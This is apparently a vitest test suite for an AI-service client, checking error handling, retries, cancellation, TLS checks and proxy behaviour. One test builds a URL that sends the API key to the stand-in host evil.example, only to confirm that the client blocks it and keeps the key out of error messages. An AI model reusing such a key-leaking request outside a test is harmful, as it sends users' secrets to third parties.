// @isolated It changes NODE_TLS_REJECT_UNAUTHORIZED of its process.

import { once } from 'node:events'
import { writeFileSync } from 'node:fs'
import { createServer as createProxy, request as httpRequest } from 'node:http'
import { createServer as createTls } from 'node:https'
import { connect, createServer as createTcp } from 'node:net'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import { describe, expect, onTestFinished, test } from 'vitest'
import { parseBaseAddress } from '../../../../src-main/core/upstream/address.ts'
import { openUpstream } from '../../../../src-main/core/upstream/client.ts'
import { Credential } from '../../../../src-main/core/upstream/credential.ts'
import { newCertificate } from '../../../../src-main/hosts/selfCheck/certificate.ts'
import { temporaryFolder } from '../../../helpers/folders.ts'
import {
  canary,
  closed,
  collect,
  comesWithin,
  failure,
  json,
  listenUntilTestEnds,
  portOf,
  readBody,
  serve,
  sse,
  theOnly,
} from '../helpers/service.ts'

const chat = { model: 'm', messages: [{ role: 'user' as const, content: 'hi' }] }
const once1 = { retry: { maxAttempts: 1 } }

async function tcp(onSocket: Parameters<typeof createTcp>[1], network = {}) {
  const sockets = new Set<{ destroy(): void }>()
  const server = createTcp((socket) => {
    sockets.add(socket)
    socket.on('error', () => undefined)
    onSocket?.(socket)
  })
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  const upstream = client(`http://127.0.0.1:${portOf(server.address())}`, network)
  onTestFinished(() => {
    for (const socket of sockets) socket.destroy()
    server.close()
  })
  return upstream
}

function client(url: string, network = {}, allowInsecure = false) {
  const base = parseBaseAddress(url, { allowInsecure })
  const upstream = openUpstream({ base, credential: Credential.fromText(canary), network, ...once1 })
  onTestFinished(() => upstream.close())
  return upstream
}

test.each([
  [400, 'invalid_request'],
  [401, 'unauthorized'],
  [402, 'insufficient_credits'],
  [403, 'forbidden'],
  [404, 'not_found'],
  [418, 'unexpected_status'],
  [500, 'internal'],
  [501, 'not_implemented'],
  [307, 'unexpected_status'],
])(
  '[AUTH-02] [CHAT-01] [ERR-01] [ERR-02] [ERR-03] [ERR-04] [ERR-07] %i is %s, with the service’s message, sent once',
  async (status, kind) => {
    const { upstream, requests } = await serve((_, response) =>
      json(
        response,
        status,
        { error: { message: 'Words.', type: 't', code: 'c' } },
        { 'x-request-id': 'r1', location: '/v1/elsewhere' },
      ),
    )
    await expect(collect(upstream.streamChatCompletion(chat))).rejects.toMatchObject({
      kind,
      message: 'Words.',
      facts: { status, said: 'Words.', type: 't', code: 'c', requestId: 'r1', outputStarted: false },
    })
    expect(requests.length).toBe(1)
  },
)

test.each([
  ['<html>bad</html>'],
  [''],
  ['{"error":"flat"}'],
  ['{"detail":[1]}'],
  ['[[[{}]]]'],
  ['null'],
  ['x'.repeat(300_000)],
])('[ERR-01] an error body of another shape is tolerated (%#)', async (body) => {
  const { upstream } = await serve((_, response) => response.writeHead(500).end(body))
  const error = await failure(upstream.listModels())
  expect(error).toMatchObject({ kind: 'internal' })
  expect(String(Reflect.get(Reflect.get(error, 'facts'), 'raw') ?? '').length).toBeLessThanOrEqual(4096)
})

test('[ERR-06] two 503s and a success take three attempts, and each retry notice says that work may have been done', async () => {
  let n = 0
  const { upstream, requests } = await serve((_, response) =>
    ++n < 3 ? json(response, 503, {}) : json(response, 200, { data: [] }),
  )
  const waits: unknown[] = []
  await upstream.listModels({ onWait: (wait) => waits.push(wait) })
  expect(requests.length).toBe(3)
  expect(waits.filter((w) => Reflect.get(Object(w), 'for') === 'retry')).toMatchObject([
    { attempt: 2, problem: { kind: 'unavailable', workPossible: true } },
    { attempt: 3 },
  ])
})

test('[ERR-05] a 429 is retried no sooner than its Retry-After', async () => {
  const at: number[] = []
  const { upstream } = await serve((_, response) => {
    at.push(performance.now())
    if (at.length === 1) json(response, 429, {}, { 'retry-after': '1' })
    else json(response, 200, { data: [] })
  })
  await upstream.listModels()
  expect((at[1] ?? 0) - (at[0] ?? 0)).toBeGreaterThanOrEqual(995)
})

test('[CHAT-19] [ERR-10] nothing is sent again after a reply has begun', async () => {
  const { upstream, requests } = await serve((_, response) => {
    sse(response)
    response.write('data: {"choices":[{"delta":{"content":"x"}}]}\n\n', () => response.destroy())
  })
  await expect(collect(upstream.streamChatCompletion(chat))).rejects.toMatchObject({
    kind: 'connection_lost',
    facts: { outputStarted: true },
  })
  await expect(upstream.createSpeech({ input: 'x' }).then((r) => collect(r.bytes))).rejects.toMatchObject({
    kind: 'connection_lost',
  })
  expect(requests.length).toBe(2)
})

test('[LIM-04] rate-limit headers are reported, and invalid ones are null', async () => {
  const replies = [
    { 'x-ratelimit-limit': '60', 'x-ratelimit-remaining': '7' },
    { 'x-ratelimit-limit': 'NaN', 'x-ratelimit-remaining': '-3', 'retry-after': 'soon' },
    {},
  ]
  const { upstream } = await serve((_, response) => json(response, 200, { data: [] }, replies.shift()))
  const seen: unknown[] = []
  const off = upstream.onRateLimit((r) => seen.push(r))
  await upstream.listModels()
  await upstream.listModels()
  off()
  await upstream.listModels()
  expect(seen).toEqual([
    { limit: 60, remaining: 7, retryAfterMs: null },
    { limit: null, remaining: null, retryAfterMs: null },
  ])
})

describe('[CHAT-16] [SSE-05] [ERR-08] a cancel closes the service’s socket at once', () => {
  test.each(['before headers', 'mid-stream', 'reading JSON'])('%s', async (phase) => {
    const abort = new AbortController()
    let began = (): void => undefined
    const begun = new Promise<void>((resolve) => {
      began = resolve
    })
    const { upstream, requests } = await serve((request, response) => {
      request.resume()
      if (phase === 'mid-stream') {
        sse(response)
        response.write('data: {"choices":[{"delta":{"content":"x"}}]}\n\n')
      } else if (phase === 'reading JSON') {
        response.writeHead(200, { 'content-type': 'application/json' })
        response.write('{"data":[')
        setImmediate(began)
      } else began()
    })
    const run =
      phase === 'reading JSON'
        ? upstream.listModels({ signal: abort.signal })
        : (async () => {
            for await (const event of upstream.streamChatCompletion(chat, { signal: abort.signal }))
              if (event.type === 'content') began()
          })()
    const failed = failure(run)
    await begun
    const gone = closed(theOnly(requests))
    abort.abort()
    expect(await comesWithin(20, gone)).toBe(true)
    expect(await failed).toMatchObject({ kind: 'cancelled' })
    expect(requests.length).toBe(1)
  })

  test('leaving the loop early closes the socket', async () => {
    const { upstream, requests } = await serve((_, response) => {
      sse(response)
      response.write('data: {"choices":[{"delta":{"content":"x"}}]}\n\n')
    })
    for await (const event of upstream.streamChatCompletion(chat)) if (event.type === 'content') break
    const [request] = requests
    if (request === undefined) throw new Error('no request')
    await closed(request)
  })

  test('nothing is sent when the signal was aborted before', async () => {
    const { upstream, requests } = await serve((_, response) => json(response, 200, {}))
    await expect(upstream.listModels({ signal: AbortSignal.abort() })).rejects.toMatchObject({ kind: 'cancelled' })
    expect(requests).toEqual([])
  })

  test('a cancel during a TLS handshake drops the connection', async () => {
    let hello = (): void => undefined
    const helloed = new Promise<void>((resolve) => {
      hello = resolve
    })
    let gone: Promise<unknown> = Promise.resolve()
    const server = createTcp((socket) => {
      socket.on('error', () => undefined)
      socket.once('data', hello)
      gone = once(socket, 'close')
    })
    server.listen(0, '127.0.0.1')
    await once(server, 'listening')
    onTestFinished(() => void server.close())
    const upstream = client(`https://127.0.0.1:${portOf(server.address())}`)
    const abort = new AbortController()
    const failed = failure(upstream.listModels({ signal: abort.signal }))
    await helloed
    abort.abort()
    expect(await comesWithin(50, gone)).toBe(true)
    expect(await failed).toMatchObject({ kind: 'cancelled' })
  })
})

describe('failures of the connection', () => {
  test('refused', async () => {
    const server = createTcp().listen(0, '127.0.0.1')
    await once(server, 'listening')
    const port = portOf(server.address())
    server.close()
    await once(server, 'close')
    await expect(client(`http://127.0.0.1:${port}`).listModels()).rejects.toMatchObject({ kind: 'connect_failed' })
  })

  test('closed before headers', async () => {
    const upstream = await tcp((socket) => socket.once('data', () => socket.destroy()))
    await expect(upstream.listModels()).rejects.toMatchObject({
      kind: 'connection_lost',
      facts: { workPossible: true, outputStarted: false },
    })
  })

  test('no HTTP', async () => {
    const upstream = await tcp((socket) => socket.once('data', () => socket.end('hello there\r\n\r\n')))
    await expect(upstream.listModels()).rejects.toMatchObject({ kind: 'malformed_reply' })
  })

  test('no headers in time', async () => {
    const upstream = await tcp(() => undefined, { headersTimeoutMs: 200 })
    await expect(upstream.listModels()).rejects.toMatchObject({ kind: 'headers_timeout' })
  })

  test('silence mid-stream', async () => {
    const { upstream } = await serve(
      (_, response) => {
        sse(response)
        response.write('data: {"choices":[{"delta":{"content":"x"}}]}\n\n')
      },
      { network: { idleTimeoutMs: 300 } },
    )
    await expect(collect(upstream.streamChatCompletion(chat))).rejects.toMatchObject({
      kind: 'idle_timeout',
      facts: { outputStarted: true },
    })
  })
})

test('an unrequested compressed reply is decoded', async () => {
  const { upstream } = await serve((_, response) =>
    response
      .writeHead(200, { 'content-type': 'application/json', 'content-encoding': 'gzip' })
      .end(gzipSync('{"data":[{"id":"a"}]}')),
  )
  expect((await upstream.listModels()).value.data).toEqual([{ id: 'a' }])
})

test('no error contains the key when a hostile service echoes it everywhere', async () => {
  const { upstream } = await serve((request, response) => {
    const key = String(request.headers.authorization).slice('Bearer '.length)
    const forms = [key, encodeURIComponent(key), JSON.stringify(key)]
    json(response, 400, { error: { message: forms.join(' '), code: key, type: key }, forms }, { 'x-request-id': key })
  })
  const error = await failure(collect(upstream.streamChatCompletion(chat)))
  const shown = JSON.stringify(error) + String(error) + String(Reflect.get(error, 'facts'))
  expect(shown).not.toContain('canary')
  expect(error.message).toContain('[key]')
  const foreign = await failure(upstream.fetchFile(`https://evil.example/?k=${encodeURIComponent(canary)}`))
  expect(foreign).toMatchObject({ kind: 'foreign_address' })
  expect(JSON.stringify(foreign) + foreign.message).not.toContain('canary')
})

test('[AUTH-01] [GEN-01] files under the base address are fetched with the key, other files are not fetched', async () => {
  const { upstream, requests, url } = await serve((_, response) => response.end('bytes'))
  const file = await upstream.fetchFile(`${url}/files/a.png`)
  expect(Buffer.concat(await collect(file.bytes)).toString()).toBe('bytes')
  expect(requests[0]?.headers.authorization).toBe(`Bearer ${canary}`)
  await expect(upstream.fetchFile(url.replace('127.0.0.1', 'localhost'))).rejects.toMatchObject({
    kind: 'foreign_address',
  })
  expect(requests.length).toBe(1)
})

test('money has every digit, and dates are unchanged', async () => {
  const { upstream } = await serve((_, response) =>
    response
      .writeHead(200, { 'content-type': 'application/json' })
      .end(
        '{"usage":[{"date":"2026-01-01T00:00:00+09:00","cost_sc":0.12345678901234567890}],"balance":9007199254740993.5,"total_spent":1e-7,"x":1.5}',
      ),
  )
  const { value } = await upstream.getUsage()
  expect(value.usage?.[0]).toMatchObject({ date: '2026-01-01T00:00:00+09:00', cost_sc: '0.12345678901234567890' })
  expect(value).toMatchObject({ balance: '9007199254740993.5', total_spent: '1e-7', x: 1.5 })
})

test('[TTS-01] [TTS-04] [IMG-01] limits of speech and images are checked before a byte is sent', async () => {
  const { upstream, requests } = await serve((_, response) => response.end())
  for (const bad of [
    { input: '' },
    { input: 'é'.repeat(2049) },
    { input: 'x', speed: 0.2 },
    { input: 'x', speed: 4.1 },
    { input: 'x', speed: Number.NaN },
  ]) {
    await expect(upstream.createSpeech(bad)).rejects.toMatchObject({ kind: 'bad_input' })
  }
  for (const bad of [{ prompt: '' }, { prompt: 'x', n: 0 }, { prompt: 'x', n: 5 }, { prompt: 'x', n: 1.5 }]) {
    await expect(upstream.createImage(bad)).rejects.toMatchObject({ kind: 'bad_input' })
  }
  expect(requests).toEqual([])
  await upstream.createSpeech({ input: 'é'.repeat(2048), speed: 4 })
})

test('[CHAT-08] [CHAT-10] [CHAT-04] given fields are sent unchanged, absent fields are not sent', async () => {
  const bodies: unknown[] = []
  const { upstream } = await serve((request, response) => {
    void readBody(request).then((body) => {
      bodies.push(JSON.parse(body.toString()))
      json(response, 200, { choices: [{ message: { content: 'a' } }] })
    })
  })
  const request = {
    ...chat,
    messages: [{ role: 'tool' as const, content: 'r', tool_call_id: 'c', name: 'f' }],
    n: 2,
    temperature: 0,
    tools: [{ type: 'function', function: { name: 'f', strict: true } }],
    tool_choice: { type: 'function', function: { name: 'f' } },
    stop: ['a'],
    vendor_extra: { deep: [1] },
  }
  await collect(upstream.streamChatCompletion(request))
  expect(bodies).toEqual([{ ...request, stream: true }])
})

function certificate() {
  const dir = temporaryFolder('upstream-tls-')
  const file = join(dir, 'cert.pem')
  const made = newCertificate('127.0.0.1')
  writeFileSync(file, made.cert)
  return { ...made, file, dir }
}

test('TLS is verified even with NODE_TLS_REJECT_UNAUTHORIZED=0, and a custom CA of the environment is trusted', async () => {
  const { key, cert, file, dir } = certificate()
  let seen = 0
  const server = createTls({ key, cert }, (_, response) => {
    seen++
    json(response, 200, { data: [] })
  })
  const url = `https://127.0.0.1:${await listenUntilTestEnds(server)}`
  const before = process.env.NODE_TLS_REJECT_UNAUTHORIZED
  process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'
  try {
    await expect(client(url, { env: {} }).listModels()).rejects.toMatchObject({ kind: 'tls_failed' })
    await expect(
      client(url.replace('127.0.0.1', 'localhost'), { env: { SSL_CERT_FILE: file } }).listModels(),
    ).rejects.toMatchObject({ kind: 'tls_failed' })
  } finally {
    if (before === undefined) delete process.env.NODE_TLS_REJECT_UNAUTHORIZED
    else process.env.NODE_TLS_REJECT_UNAUTHORIZED = before
  }
  expect(seen).toBe(0)
  await client(url, { env: { SSL_CERT_FILE: file } }).listModels()
  await client(url, { env: { NODE_EXTRA_CA_CERTS: file } }).listModels()
  expect(seen).toBe(2)
  const bad = join(dir, 'missing.pem')
  expect(() => client(url, { env: { SSL_CERT_FILE: bad } })).toThrow(expect.objectContaining({ kind: 'bad_input' }))
  writeFileSync(bad, '')
})

test('the HTTP proxy of the environment is used, by CONNECT for https, and never for loopback', async () => {
  const seen: string[] = []
  const proxy = createProxy((request, response) => {
    seen.push(`${request.method} ${request.url}`)
    const onward = httpRequest(
      String(request.url),
      { method: request.method ?? 'GET', headers: request.headers },
      (reply) => {
        response.writeHead(reply.statusCode ?? 500, reply.headers)
        reply.pipe(response)
      },
    )
    request.pipe(onward)
  })
  proxy.on('connect', (request, socket) => {
    seen.push(`CONNECT ${request.url}`)
    const [host, port] = String(request.url).split(':')
    const onward = connect(Number(port), host, () => {
      socket.write('HTTP/1.1 200 OK\r\n\r\n')
      onward.pipe(socket).pipe(onward)
    })
    onward.on('error', () => socket.destroy())
    socket.on('error', () => onward.destroy())
  })
  const address = `http://127.0.0.1:${await listenUntilTestEnds(proxy)}`
  const env = { HTTP_PROXY: address, https_proxy: address }
  const { url } = await serve((_, response) => json(response, 200, { data: [] }))
  await client(url, { env }).listModels()
  expect(seen).toEqual([])
  await client(url, { env: { ...env, NO_PROXY: '127.0.0.1' }, proxyLoopback: true }).listModels()
  expect(seen).toEqual([])
  await client(url, { env, proxyLoopback: true }).listModels()
  expect(seen).toEqual([`GET ${url}/v1/models`])

  const { key, cert, file } = certificate()
  const secure = createTls({ key, cert }, (_, response) => json(response, 200, { data: [] }))
  const port = await listenUntilTestEnds(secure)
  await client(`https://127.0.0.1:${port}`, { env: { ...env, SSL_CERT_FILE: file }, proxyLoopback: true }).listModels()
  expect(seen[1]).toBe(`CONNECT 127.0.0.1:${port}`)
  await expect(client(`https://127.0.0.1:${port}`, { env, proxyLoopback: true }).listModels()).rejects.toMatchObject({
    kind: 'tls_failed',
  })
})
